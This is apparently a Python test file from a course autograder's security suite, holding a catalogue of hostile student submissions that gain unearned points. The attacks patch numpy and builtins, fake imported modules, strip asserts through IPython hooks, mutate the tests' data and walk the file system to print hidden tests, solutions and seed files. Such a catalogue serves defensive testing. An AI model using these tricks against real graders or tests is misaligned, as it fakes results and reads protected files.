"""The hostile corpus: submissions that try to get points their answers do not earn, or to
reach what a kernel must never see (solutions, hidden tests, the seed).

Each :class:`corpus.Variant` here is one attack. ``at_most`` names the tests whose points the
attack may not exceed: the score of the same wrong answer without the attack (measured, see
:func:`main`); tests not named may get what the course's answer gets. ``flagged`` says
whether the grader should flag the notebook for review: True where the attack changes what
the tests rely on (interpreter, modules, classes, IPython, the grader's own state), False
where it is only a lying or failing answer that the tests themselves must fail (or a read
that must find nothing), None where either is acceptable and only the points are checked
(edited or deleted cells, an answer moved out of its cell, a kernel that dies).

Three groups:

* the evasions of the static scan that the previous review found (attribute stores through
  module objects fetched at run time, ``setattr`` obtained indirectly, a class made with
  ``type``, lying instances and classes, instructor files read from the kernel, the
  package's own answers imported, the seed file in a mounted folder);
* attacks on a protected test run in a fresh process (tests bound to references captured
  before student code, their own copies of the data, an audit hook, a private result
  channel): data mutated in place or at call time, patches made while a test runs and
  undone before it ends, threads, signals, frames, ``/proc/self/mem``, forged results, exits;
* answers that lie about themselves (shapes, ``__eq__``, ndarray subclasses, ``__class__``).

``python tests/corpus_hostile.py [NAME ...]`` runs every attack (or the named ones) WITHOUT
protection: the instructor's notebook (hidden tests included) with the attack's answers, in
a plain Jupyter kernel (nbclient, ``NBGRADER_EXECUTION=autograde``, ``CRSKY_SIZE=small``),
and prints what each test scored there against ``at_most``: what each attack gains when
nothing stops it. ``--baselines`` first checks that the honest wrong answers score exactly
what ``at_most`` says.
"""

import textwrap

from corpus import Variant
from crsky.course import COURSE_ROOT


def _src(text):
    return textwrap.dedent(text).strip("\n") + "\n"


# Strings that must never reach a student's outputs or feedback (plus the class's seed).
MUST_NOT_LEAK = ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS", "BEGIN SOLUTION", "END SOLUTION")

# ----------------------------------------------------------------- honest wrong answers
# Each is a mistake a student could make; the attacks below add something to one of them.
LON_0_360 = _src('''
def to_lonlat(vectors):
    """Galactic longitude and latitude (degrees) of unit vectors (..., 3)."""
    vectors = np.asarray(vectors, dtype=float)
    lon = np.degrees(np.arctan2(vectors[..., 1], vectors[..., 0])) % 360  # in [0, 360): the range is wrong
    lat = np.degrees(np.arcsin(np.clip(vectors[..., 2], -1.0, 1.0)))
    return lon, lat
''')
PAIRS_CONSTANT = _src('''
def count_close_pairs(sky_map, psi_deg):
    """Number of pairs closer than psi_deg degrees: here only the isotropic expectation."""
    return int(round(isotropic_expectation(psi_deg)))
''')
KERNEL_WRONG_WIDTH = _src('''
def kernel_nn(data, nodes=16):
    x_i, x_j = data
    x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
    x = layers.Dense(nodes, activation="relu")(x)
    return layers.Dense(nodes + 1)(x)
''')
KERNEL_SLICED = _src('''
def kernel_nn(data, nodes=16):
    x_i, x_j = data
    x = layers.Dense(nodes + 4, activation="relu")(x_i)  # x_j is never used
    return x[:, :nodes]
''')
KERNEL_SQRT = _src('''
def kernel_nn(data, nodes=16):
    x_i, x_j = data
    x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
    x = layers.Dense(nodes)(x)
    return keras.ops.sqrt(x)  # NaN wherever the Dense output is negative
''')
_DGCNN = '''
def build_dgcnn():
    points = layers.Input((500, 3), name="points")
    features = layers.Input((500, 4), name="features")
    scaled = {scaled}
    x = EdgeConv(lambda a: textbook_kernel(a, nodes={n1}, bn_momentum=0.9), next_neighbors=8)([points, scaled])
    x = layers.Activation("relu")(x)
    x = EdgeConv(lambda a: textbook_kernel(a, nodes={n2}, bn_momentum=0.9), next_neighbors=8)([points, x])
    x = layers.Activation("relu")(x)
    x = EdgeConv(lambda a: textbook_kernel(a, nodes={n3}, bn_momentum=0.9), next_neighbors=8)([x, x])
    x = layers.Activation("relu")(x)
    x = layers.GlobalAveragePooling1D()(x)
    output = layers.Dense(2, activation="softmax")(x)
    return {model}([points, features], output)
'''
DGCNN_TOO_BIG = _src(_DGCNN.format(scaled="EnergyScaling()(features)", n1=64, n2=64, n3=64, model="keras.Model"))
DGCNN_NO_SCALING = _src(_DGCNN.format(scaled="features", n1=8, n2=16, n3=32, model="keras.Model"))
COMPILE_CONSTANT_RATE = _src('''
def compile_for_training(model, steps, learning_rate=3e-3):
    model.compile(loss="categorical_crossentropy", optimizer=keras.optimizers.Adam(learning_rate),
                  metrics=["accuracy"])  # no cosine decay
''')
COMPILE_SGD = _src('''
def compile_for_training(model, steps, learning_rate=3e-3):
    schedule = keras.optimizers.schedules.CosineDecay(learning_rate, decay_steps=steps)
    model.compile(loss="categorical_crossentropy", optimizer=keras.optimizers.SGD(schedule), metrics=["accuracy"])
''')
KNN_TWO = _src('''
def knn_graph(indices):
    indices = np.asarray(indices)
    graph = nx.DiGraph()
    graph.add_nodes_from(range(len(indices)))
    graph.add_edges_from((i, int(j)) for i, row in enumerate(indices) for j in row[:2])  # only two neighbours
    return graph
''')
NOT_WRITTEN = "def {name}(*args, **kwargs):\n    raise NotImplementedError\n"

# What each honest wrong answer scores (measured by `--baselines`): {grade_id: points}.
HONEST_WRONG = {
    "LON_0_360": ("01_sky", {"to_lonlat": LON_0_360}, {"test_to_lonlat": 0}),
    "PAIRS_CONSTANT": ("01_sky", {"count_close_pairs": PAIRS_CONSTANT}, {"test_count_close_pairs": 0}),
    "KERNEL_WRONG_WIDTH": ("02_kernel", {"kernel_nn": KERNEL_WRONG_WIDTH},
                           {"test_kernel_shape": 0, "test_kernel_in_edgeconv": 0}),
    "KERNEL_SLICED": ("02_kernel", {"kernel_nn": KERNEL_SLICED}, {"test_kernel_inputs": 0}),
    "KERNEL_SQRT": ("02_kernel", {"kernel_nn": KERNEL_SQRT}, {"test_kernel_trainable": 0, "test_kernel_in_edgeconv": 0}),
    "DGCNN_TOO_BIG": ("03_training", {"build_dgcnn": DGCNN_TOO_BIG}, {"test_build_dgcnn": 0}),
    "DGCNN_NO_SCALING": ("03_training", {"build_dgcnn": DGCNN_NO_SCALING}, {"test_build_dgcnn": 0}),
    "COMPILE_CONSTANT_RATE": ("03_training", {"compile_for_training": COMPILE_CONSTANT_RATE},
                              {"test_compile_for_training": 0}),
    "COMPILE_SGD": ("03_training", {"compile_for_training": COMPILE_SGD}, {"test_compile_for_training": 0}),
    "KNN_TWO": ("04_graph", {"knn_graph": KNN_TWO}, {"test_knn_graph": 0}),
}
ALL_02 = {"test_kernel_shape": 0, "test_kernel_inputs": 0, "test_kernel_trainable": 0, "test_kernel_in_edgeconv": 0}
WIDTH = HONEST_WRONG["KERNEL_WRONG_WIDTH"][2]

# A `tuple` that reports (None, nodes) for the (None, nodes + 1) of KERNEL_WRONG_WIDTH, and
# (4, 500, nodes) inside EdgeConv, but only to the notebook's and the tests' code (a caller
# without __name__ or named __main__), so that Keras, which calls tuple() too, still works.
LYING_TUPLE = '''
import sys as _sys
_real_tuple = (1, 2).__class__
def _lying_tuple(values=(), _t=_real_tuple, _getframe=_sys._getframe):
    out = _t(values)
    caller = _getframe(1).f_globals.get("__name__")
    if caller in (None, "__main__") and len(out) in (2, 3) and out[-1] in (6, 9, 13, 17, 33):
        return out[:-1] + (out[-1] - 1,)
    return out
'''
# np.allclose that answers False (so that "not np.allclose(...)" holds) for the checks of
# test_kernel_inputs, and undoes itself after its second call: nothing differs afterwards.
SELF_RESTORING_ALLCLOSE = '''
import sys as _sys
def _install_false_allclose():
    module = _sys.modules["numpy"]
    real = module.allclose
    calls = [0]
    def allclose(*args, **kwargs):
        calls[0] += 1
        if calls[0] >= 2:
            module.allclose = real
        return False
    module.allclose = allclose
'''
# Walk outward from a frame to the first one whose globals hold the named data (the test's).
FIND_TEST_GLOBALS = '''
def _test_globals(frame, names=("features", "points")):
    while frame is not None:
        if all(name in frame.f_globals for name in names) and "kernel_nn" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
    return None
'''

VARIANTS = []


def _add(**kwargs):
    kwargs.setdefault("answers", {})  # solution cells not named keep the course's answer
    VARIANTS.append(Variant(**kwargs))


# ============================================= evasions of the static scan (the issue)
_add(name="h01_sysmodules_numpy_all", assignment="01_sky",
     answers={"to_lonlat": LON_0_360 + _src('''
         sys.modules["numpy"].all = lambda *args, **kwargs: True
     ''')},
     at_most={"test_to_lonlat": 0}, flagged=True,
     note="numpy fetched at run time through sys.modules (the set-up imports sys): np.all always True "
          "hides the longitude range check of a [0, 360) answer")
_add(name="h02_sysmodules_numpy_allclose", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_SLICED + _src('''
         sys.modules["numpy"].allclose = lambda *args, **kwargs: False
     ''')},
     at_most={"test_kernel_inputs": 0}, flagged=True,
     note="sys.modules['numpy'].allclose = ...: a kernel that ignores x_j passes 'changing x_j must change the output'")
_add(name="h02_sysmodules_main_tuple", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + LYING_TUPLE + _src('''
         sys.modules["__main__"].tuple = _lying_tuple
     ''')},
     at_most=WIDTH, flagged=False,
     note="sys.modules['__main__'].tuple = a liar: the tests' tuple(out.shape) reports width nodes for nodes + 1 "
          "(__main__ is the notebook's own namespace: the tests never see its tuple, nothing to flag)")
_add(name="h02_sysmodules_builtins_tuple", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + LYING_TUPLE + _src('''
         sys.modules["builtins"].tuple = _lying_tuple
     ''')},
     at_most=WIDTH, flagged=True,
     note="sys.modules['builtins'].tuple = a liar that lies to notebook code only (Keras keeps working)")
_add(name="h02_setattr_indirect", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_SLICED + _src('''
         import builtins as b
         store = getattr(b, "set" + "attr")
         store(sys.modules["num" + "py"], "all" + "close", lambda *args, **kwargs: False)
     ''')},
     at_most={"test_kernel_inputs": 0}, flagged=True,
     note="setattr obtained as getattr(builtins, 'set' + 'attr') on a module named at run time")
_add(name="h02_operator_setitem_vars", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_SLICED + _src('''
         import operator
         operator.setitem(vars(sys.modules["numpy"]), "allclose", lambda *args, **kwargs: False)
         operator.setitem(sys.modules["numpy"].__dict__, "isclose", sys.modules["numpy"].isclose)
     ''')},
     at_most={"test_kernel_inputs": 0}, flagged=True,
     note="operator.setitem on vars(module) / module.__dict__: a store with no attribute syntax at all")
_add(name="h03_type_renamed_model", assignment="03_training",
     answers={"build_dgcnn": DGCNN_TOO_BIG.replace("return keras.Model(", "return Network(") + _src('''
         Network = type("Network", (keras.Model,), {"count_params": lambda self: 5_000})
     ''')},
     at_most={"test_build_dgcnn": 0}, flagged=False,
     note="a Model subclass made with type() under another name whose count_params lies (42,000 parameters -> 5,000); "
          "the test must count model.weights itself")
_add(name="h03_instance_count_params", assignment="03_training",
     answers={"build_dgcnn": DGCNN_TOO_BIG.replace(
         "    return keras.Model([points, features], output)\n",
         "    model = keras.Model([points, features], output)\n"
         "    model.count_params = lambda: 5_000  # an instance attribute over the method the test calls\n"
         "    return model\n")},
     at_most={"test_build_dgcnn": 0}, flagged=False,
     note="model.count_params = lambda: 5000 on the returned instance (the student's own object: nothing to restore)")
_add(name="h03_class_count_params", assignment="03_training",
     answers={"build_dgcnn": DGCNN_TOO_BIG + _src('''
         keras.Model.count_params = lambda self: 5_000
     ''')},
     at_most={"test_build_dgcnn": 0}, flagged=True,
     note="keras.Model.count_params replaced on the class (Python 3.11 raises no audit event for a class attribute store)")
_add(name="h03_subclass_layers", assignment="03_training",
     answers={"build_dgcnn": DGCNN_NO_SCALING.replace("return keras.Model(", "return SkyNet(") + _src('''
         class SkyNet(keras.Model):
             @property
             def layers(self):
                 return super().layers + [EnergyScaling()]  # claims a layer the network does not use
     ''')},
     at_most={"test_build_dgcnn": 0}, flagged=False,
     note="a Model subclass whose layers property adds an EnergyScaling the network never calls")
_add(name="h03_subclass_weights", assignment="03_training",
     answers={"build_dgcnn": DGCNN_TOO_BIG.replace("return keras.Model(", "return Compact(") + _src('''
         class Compact(keras.Model):
             @property
             def weights(self):
                 return super().weights[:4]
             @property
             def trainable_weights(self):
                 return super().trainable_weights[:4]
             def count_params(self):
                 return 5_000
     ''')},
     at_most={"test_build_dgcnn": 0}, flagged=False,
     note="a Model subclass whose weights, trainable_weights and count_params all under-report the 42,000 parameters")
_add(name="h03_optimizer_claims_adam", assignment="03_training",
     answers={"compile_for_training": COMPILE_SGD.replace("keras.optimizers.SGD(schedule)", "Adamish(schedule)") + _src('''
         class Adamish(keras.optimizers.SGD):
             @property
             def __class__(self):
                 return keras.optimizers.Adam  # isinstance(optimizer, Adam) is now True
     ''')},
     at_most={"test_compile_for_training": 0}, flagged=False,
     note="an SGD whose __class__ property says Adam: isinstance() believes it; an exact type check does not")

# ------------------------------------------------------ instructor files from the kernel
_READ_SOLUTION = '''
import json
from pathlib import Path

def _solution_cell(path, grade_id):
    cells = json.loads(Path(path).read_text())["cells"]
    print("".join(c["source"] if isinstance(c["source"], str) else "".join(c["source"]) for c in cells
                  if c["cell_type"] == "code"))  # every answer and hidden test, into the feedback
    [cell] = [c for c in cells if c["metadata"].get("nbgrader", {{}}).get("grade_id") == grade_id]
    return cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])

exec(_solution_cell({path}, "kernel_nn"), globals())
'''
_add(name="h02_read_solutions_absolute", assignment="02_kernel",
     answers={"kernel_nn": _src(_READ_SOLUTION.format(path=repr(str(COURSE_ROOT / "solutions/02_kernel/02_kernel.ipynb"))))},
     at_most=ALL_02, flagged=False,
     note="no answer: reads the instructor's notebook by its absolute path, runs its solution, prints every "
          "hidden test (0/6 -> 6/6 where solutions/ is mounted)")
_add(name="h02_read_solutions_package_root", assignment="02_kernel",
     answers={"kernel_nn": _src(_READ_SOLUTION.format(
         path='next(p for p in [Path(crsky.__file__).parents[1] / "solutions/02_kernel/02_kernel.ipynb",\n'
              '                  Path(crsky.course.COURSE_ROOT) / "solutions/02_kernel/02_kernel.ipynb"] if p.exists())')
         .replace("import json\n", "import json\nimport crsky\nimport crsky.course\n"))},
     at_most=ALL_02, flagged=False,
     note="no answer: finds solutions/ beside the installed package (crsky.__file__, crsky.course.COURSE_ROOT)")
_add(name="h01_glob_notebooks_and_seeds", assignment="01_sky",
     answers={"to_lonlat": _src('''
         import json, os, time

         def _walk(root="/", limit_s=20.0, skip=("/proc", "/sys", "/dev")):
             """Every .ipynb and *seed* file a bounded walk of the file system finds."""
             start, found = time.time(), []
             for folder, subfolders, files in os.walk(root):
                 subfolders[:] = [d for d in subfolders if os.path.join(folder, d) not in skip
                                  and d not in ("site-packages", "node_modules", "__pycache__")]
                 found += [os.path.join(folder, f) for f in files if f.endswith(".ipynb") or "seed" in f.lower()]
                 if time.time() - start > limit_s:
                     break
             return found

         _sources = {}
         for path in _walk():
             try:
                 if "seed" in os.path.basename(path).lower() and os.path.getsize(path) < 200:
                     print("SEED", path, open(path).read().strip())
                 elif path.endswith(".ipynb"):
                     for cell in json.load(open(path))["cells"]:
                         grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
                         source = "".join(cell["source"])
                         if "BEGIN SOLUTION" in source or "BEGIN HIDDEN" in source:
                             print(path, grade_id, source, sep="\\n")
                             _sources.setdefault(grade_id, source)
             except (OSError, ValueError, KeyError):
                 pass
         exec(_sources["to_lonlat"], globals())
         exec(_sources["count_close_pairs"], globals())
     ''')},
     at_most={"test_to_lonlat": 0}, flagged=False,
     note="no answer: walks the whole file system for *.ipynb with solutions and *seed* files, prints them "
          "(feedback) and runs the solutions found")
_add(name="h02_import_package_kernel", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         from crsky import models as _models

         _course_kernel = getattr(_models, "kernel_nn", None) or getattr(_models, "textbook_kernel")

         def kernel_nn(data, nodes=16):
             return _course_kernel(data, nodes=nodes)
     ''')},
     at_most=ALL_02, flagged=True,
     note="the answer is the course package's own kernel (crsky.models): importable answers")
_add(name="h03_import_reference_model", assignment="03_training",
     answers={"build_dgcnn": _src('''
         from crsky.models import build_reference_model

         def build_dgcnn():
             return build_reference_model()
     '''), "permute_energies": _src('''
         from crsky import training as _training

         def permute_energies(x, rng):
             return _training.permute_energies(x, seed=int(rng.integers(2**31)))
     ''')},
     at_most={"test_build_dgcnn": 0, "test_permute_energies": 0}, flagged=True,
     note="the answers are the package's reference DGCNN and permutation (crsky.models, crsky.training)")
_add(name="h01_import_package_answers", assignment="01_sky",
     answers={"to_lonlat": _src('''
         from crsky.sky import vectors_to_lonlat

         def to_lonlat(vectors):
             return tuple(np.degrees(angle) for angle in vectors_to_lonlat(vectors))
     '''), "count_close_pairs": _src('''
         def count_close_pairs(sky_map, psi_deg):
             return int(pair_counts(np.asarray(sky_map)[None, :, :3], psi_deg)[0])
     ''')},
     at_most={"test_to_lonlat": 0, "test_count_close_pairs": 0}, flagged=True,
     note="both answers delegate to the package (crsky.sky.vectors_to_lonlat; pair_counts, which the release "
          "imports and the hidden test compares with)")
_add(name="h04_print_instructor_files", assignment="04_graph",
     extra_cells=[("after:knn_graph", _src('''
         import crsky, os
         root = os.path.dirname(os.path.dirname(crsky.__file__))
         for sub in ("solutions", "tests", "grading", ".git", "notebooks"):
             for folder, _, files in os.walk(os.path.join(root, sub)):
                 for name in files[:50]:
                     path = os.path.join(folder, name)
                     try:
                         print("==", path, open(path, errors="replace").read(3000))
                     except OSError:
                         pass
     '''))],
     at_most={}, flagged=False,
     note="the course's answer plus a cell printing solutions/, tests/, grading/ and .git beside the package "
          "into the outputs and the feedback (nothing may leak: MUST_NOT_LEAK)")
_add(name="h03_seed_in_mounted_folder", assignment="03_training",
     extra_cells=[("after:build_dgcnn", _src('''
         import glob, os, site, sys
         roots = [sys.prefix, *site.getsitepackages(), os.path.expanduser("~"), "/etc", "/opt", "/srv", "/work",
                  "/root", "/home", "/var", "/tmp"]
         for root in roots:
             for path in glob.glob(os.path.join(root, "**", "*seed*"), recursive=True)[:100]:
                 try:
                     if os.path.isfile(path) and os.path.getsize(path) < 200:
                         print("SEED", path, open(path).read().strip())
                 except OSError:
                     pass
     '''))],
     at_most={}, flagged=False,
     note="the course's answers plus a cell that prints every small *seed* file in the environment, home, /etc ... "
          "(the instructor keeping the seed in the virtual environment's folder)")

# ================================================ data the tests read, and call time
_add(name="h01_rebind_x", assignment="01_sky",
     answers={"to_lonlat": _src('''
         x = x.copy()
         x[..., 1] = np.abs(x[..., 1])  # every cosmic ray at y >= 0: longitudes in [0, 180]
     ''') + LON_0_360},
     at_most={"test_to_lonlat": 0}, flagged=False,
     note="rebinds x (the maps the test reads) so that a [0, 360) longitude stays inside (-180, 180]")
_add(name="h01_mutate_x_in_place", assignment="01_sky",
     answers={"to_lonlat": _src('''
         x[..., 1] = np.abs(x[..., 1])
     ''') + LON_0_360},
     at_most={"test_to_lonlat": 0}, flagged=False,
     note="mutates x in place (x[...] = ...) instead of rebinding it")
_add(name="h02_rebind_features", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_SQRT + _src('''
         points, features = np.zeros_like(points), np.zeros_like(features)  # sqrt(0) is finite
     ''')},
     at_most=HONEST_WRONG["KERNEL_SQRT"][2], flagged=False,
     note="rebinds points and features to zeros: a kernel that is NaN on real maps looks finite in EdgeConv")
_add(name="h02_calltime_zero_features", assignment="02_kernel",
     answers={"kernel_nn": FIND_TEST_GLOBALS + _src('''
         import sys as _sys

         def kernel_nn(data, nodes=16):
             test = _test_globals(_sys._getframe(1))
             if test is not None:
                 try:
                     test["features"][...] = 0  # the test's own copy, while the test runs
                 except ValueError:
                     pass
             x_i, x_j = data
             x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
             return keras.ops.sqrt(layers.Dense(nodes)(x))
     ''')},
     at_most=HONEST_WRONG["KERNEL_SQRT"][2], flagged=None,
     note="at call time the kernel finds the test's frame (sys._getframe) and zeroes its features in place")
_add(name="h04_mutate_neighbours_list", assignment="04_graph",
     answers={"knn_graph": _src('''
         neighbours[0] = neighbours[0][:, :2]  # the list the test reads, changed in place
     ''') + KNN_TWO},
     at_most={"test_knn_graph": 0}, flagged=False,
     note="replaces an item of the neighbours list in place (a list, not an array: a copy of arrays misses it)")
_add(name="h04_rebind_neighbours", assignment="04_graph",
     answers={"knn_graph": _src('''
         neighbours = [n[:, :2] for n in neighbours]
     ''') + KNN_TWO},
     at_most={"test_knn_graph": 0}, flagged=False,
     note="rebinds neighbours so that a graph with two neighbours per node has P * k edges")
_add(name="h03_calltime_patch_self_restoring", assignment="03_training",
     answers={"compile_for_training": _src('''
         import sys as _sys

         def compile_for_training(model, steps, learning_rate=3e-3):
             model.compile(loss="categorical_crossentropy", optimizer=keras.optimizers.Adam(learning_rate),
                           metrics=["accuracy"])
             module = _sys.modules["numpy"]
             real = module.allclose
             def allclose(a, b, *args, **kwargs):
                 if list(np.ravel(b)) == [learning_rate, learning_rate / 2, 0, 0]:
                     module.allclose = real  # undone at its first use: nothing differs after the test
                     return True
                 return real(a, b, *args, **kwargs)
             module.allclose = allclose
     ''')},
     at_most={"test_compile_for_training": 0}, flagged=None,
     note="patches numpy.allclose from inside the answer while the test runs, and the patch removes itself at "
          "its first use: a comparison after the test sees nothing")
_add(name="h03_calltime_patch_persistent", assignment="03_training",
     answers={"compile_for_training": COMPILE_CONSTANT_RATE.replace(
         "    model.compile(",
         "    import sys\n    sys.modules[\"numpy\"].allclose = lambda *args, **kwargs: True\n    model.compile(")},
     at_most={"test_compile_for_training": 0}, flagged=True,
     note="patches numpy.allclose from inside the answer when the test calls it, and leaves it patched")

_add(name="h02_answer_cell_rebinds_builtin", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + LYING_TUPLE + _src('''
         tuple = _lying_tuple  # a plain assignment in the answer cell: the name is the answer's now
     ''')},
     at_most=WIDTH, flagged=False,
     note="the answer cell binds the name tuple (shadowing the builtin) to a liar: a harness that hands every name "
          "an answer cell binds to the tests hands them this too (the tests get the exercise's names only: the "
          "student's own tuple stays theirs, nothing to flag)")
_add(name="h02_answer_cell_rebinds_np", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_SLICED + _src('''
         import numpy

         class _Numpy:
             allclose = staticmethod(lambda *args, **kwargs: False)
             def __getattr__(self, name):
                 return getattr(numpy, name)

         np = _Numpy()
     ''')},
     at_most={"test_kernel_inputs": 0}, flagged=False,
     note="the answer cell rebinds np to a wrapper whose allclose is always False (the module itself is untouched; "
          "the tests keep the set-up's np: nothing to flag)")

_add(name="h02_patch_numpy_internals", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         import sys as _sys

         def _false_isclose_twice():
             """numpy.allclose calls isclose from numpy._core.numeric's globals, not numpy.isclose:
             a reference to np.allclose captured before student code still uses it."""
             module = _sys.modules["numpy._core.numeric"]
             real, calls = module.isclose, [0]
             def isclose(a, b, *args, **kwargs):
                 calls[0] += 1
                 if calls[0] >= 2:
                     module.isclose = real
                 return _sys.modules["numpy"].zeros(_sys.modules["numpy"].broadcast(a, b).shape, bool)
             module.isclose = isclose

         def kernel_nn(data, nodes=16):
             if "changing x_j must change the output" in _sys._getframe(1).f_code.co_consts:
                 _false_isclose_twice()
             x_i, x_j = data
             x = layers.Dense(nodes + 4, activation="relu")(x_i)
             return x[:, :nodes]
     ''')},
     at_most={"test_kernel_inputs": 0}, flagged=None,
     note="at call time, patches numpy's internal isclose (numpy._core.numeric), which np.allclose uses through its "
          "module globals, for two calls, then puts it back: defeats captured references to np.allclose and a "
          "comparison after the test")

# ======================================================================== IPython
_add(name="h02_ipython_input_transformer", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         get_ipython().input_transformers_cleanup.append(lambda lines: [l.replace("assert ", "pass  # ") for l in lines])
     ''')},
     at_most=WIDTH, flagged=None, note="an IPython input transformer turns every assert of later cells into pass")
_add(name="h02_ipython_ast_transformer", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         import ast

         class _NoAsserts(ast.NodeTransformer):
             def visit_Assert(self, node):
                 return ast.Pass()

         get_ipython().ast_transformers.append(_NoAsserts())
     ''')},
     at_most=WIDTH, flagged=None, note="an IPython AST transformer removes the asserts of later cells")
_add(name="h02_ipython_custom_exc", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         get_ipython().set_custom_exc((AssertionError,), lambda shell, etype, value, tb, tb_offset=None: None)
     ''')},
     at_most=WIDTH, flagged=None,
     note="IPython's set_custom_exc swallows AssertionError: a failing test shows no error output")
_add(name="h03_display_formatter_points", assignment="03_training",
     answers={"build_dgcnn": _src('''
         get_ipython().display_formatter.formatters["text/plain"].for_type(int, lambda value, p, cycle: p.text("4"))
     ''') + _DGCNN.format(scaled="EnergyScaling()(features)", n1=8, n2=16, n3=32, model="keras.Model").strip() + "\n"},
     at_most={"test_saved_model_accuracy": 0}, flagged=None,
     note="a display formatter shows the accuracy test's 0 as 4 (nbgrader reads partial credit from the display)")
_add(name="h03_patch_scorer", assignment="03_training",
     answers={"build_dgcnn": _src('''
         import crsky.grading.scoring, crsky.scoring
         crsky.scoring.score_saved_model = crsky.grading.scoring.score_saved_model = lambda *args, **kwargs: 4
     ''') + _DGCNN.format(scaled="EnergyScaling()(features)", n1=8, n2=16, n3=32, model="keras.Model").strip() + "\n"},
     at_most={"test_saved_model_accuracy": 0}, flagged=None,
     note="replaces crsky.scoring.score_saved_model, which the accuracy test imports, by 'return 4'")
_add(name="h02_sys_hooks", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         import builtins
         sys.displayhook = lambda value: None
         sys.excepthook = lambda *args: None
         builtins.AssertionError = type("AssertionError", (Exception,), {})
     ''')},
     at_most=WIDTH, flagged=True,
     note="sys.displayhook, sys.excepthook and builtins.AssertionError replaced (gains nothing in a plain kernel: "
          "aimed at a harness that catches AssertionError by name or reads the display)")
_add(name="h01_import_hook_builtins", assignment="01_sky",
     answers={"to_lonlat": _src('''
         import builtins, types
         _real_import = builtins.__import__

         class _Close:  # np.allclose(this, anything) is True (NEP 18 dispatch)
             def __array_function__(self, func, types, args, kwargs):
                 return True

         _fake_sky = types.SimpleNamespace(lonlat_to_vectors=lambda lon, lat: _Close())

         def _import(name, globals=None, locals=None, fromlist=(), level=0):
             if name == "crsky.sky" and fromlist and "lonlat_to_vectors" in fromlist:
                 return _fake_sky
             return _real_import(name, globals, locals, fromlist, level)

         builtins.__import__ = _import

         def to_lonlat(vectors):
             vectors = np.asarray(vectors, dtype=float)
             lon = np.round(np.degrees(np.arctan2(vectors[..., 1], vectors[..., 0])), 1)  # rounded: not invertible
             lat = np.round(np.degrees(np.arcsin(np.clip(vectors[..., 2], -1.0, 1.0))), 1)
             return lon, lat
     ''')},
     at_most={"test_to_lonlat": 0}, flagged=True,
     note="builtins.__import__ hook: the hidden test's 'from crsky.sky import lonlat_to_vectors' gets a fake whose "
          "result np.allclose always accepts (rounded longitudes pass the round trip)")
_add(name="h01_sysmodules_fake_module", assignment="01_sky",
     answers={"to_lonlat": _src('''
         import types

         class _Close:
             def __array_function__(self, func, types, args, kwargs):
                 return True

         sys.modules["crsky.sky"] = types.SimpleNamespace(lonlat_to_vectors=lambda lon, lat: _Close())

         def to_lonlat(vectors):
             vectors = np.asarray(vectors, dtype=float)
             lon = np.round(np.degrees(np.arctan2(vectors[..., 1], vectors[..., 0])), 1)
             lat = np.round(np.degrees(np.arcsin(np.clip(vectors[..., 2], -1.0, 1.0))), 1)
             return lon, lat
     ''')},
     at_most={"test_to_lonlat": 0}, flagged=True,
     note="replaces the sys.modules entry of crsky.sky (the module object itself is untouched) so that the hidden "
          "test imports a fake lonlat_to_vectors")
_add(name="h01_meta_path_finder", assignment="01_sky",
     answers={"to_lonlat": _src('''
         import importlib.abc, importlib.util

         class _Close:
             def __array_function__(self, func, types, args, kwargs):
                 return True

         class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
             def find_spec(self, name, path, target=None):
                 return importlib.util.spec_from_loader(name, self) if name == "crsky.sky" else None
             def create_module(self, spec):
                 return None
             def exec_module(self, module):
                 module.lonlat_to_vectors = lambda lon, lat: _Close()

         sys.meta_path.insert(0, _Finder())
         del sys.modules["crsky.sky"]

         def to_lonlat(vectors):
             vectors = np.asarray(vectors, dtype=float)
             lon = np.round(np.degrees(np.arctan2(vectors[..., 1], vectors[..., 0])), 1)
             lat = np.round(np.degrees(np.arcsin(np.clip(vectors[..., 2], -1.0, 1.0))), 1)
             return lon, lat
     ''')},
     at_most={"test_to_lonlat": 0}, flagged=True,
     note="a sys.meta_path finder (and crsky.sky dropped from sys.modules) serves the hidden test a fake module")

# ============================================== threads, signals, exits, the channel
_add(name="h02_thread_patches_during_tests", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_SLICED + SELF_RESTORING_ALLCLOSE + _src('''
         import threading, time

         def _watch():
             """Patch numpy.allclose (self-restoring) whenever some thread runs test_kernel_inputs."""
             armed = set()
             while True:
                 for ident, frame in _sys._current_frames().items():
                     while frame is not None:
                         if "changing x_j must change the output" in frame.f_code.co_consts:
                             if id(frame) not in armed:
                                 armed.add(id(frame))
                                 _install_false_allclose()
                             break
                         frame = frame.f_back
                 time.sleep(0.002)

         threading.Thread(target=_watch, daemon=True).start()
     ''')},
     at_most={"test_kernel_inputs": 0}, flagged=True,
     note="a daemon thread started in the answer watches all threads' frames and patches numpy.allclose only while "
          "test_kernel_inputs runs (Python 3.11 raises no audit event for a new thread; a hook checking one "
          "thread's ident does not see the others)")
_add(name="h02_thread_unguarded_ctypes", assignment="02_kernel",
     answers={"kernel_nn": FIND_TEST_GLOBALS + _src('''
         import sys as _sys, threading, time

         _jobs, _done = [], threading.Event()

         def _helper():
             import ctypes  # refused in the cell's thread, perhaps not in this one
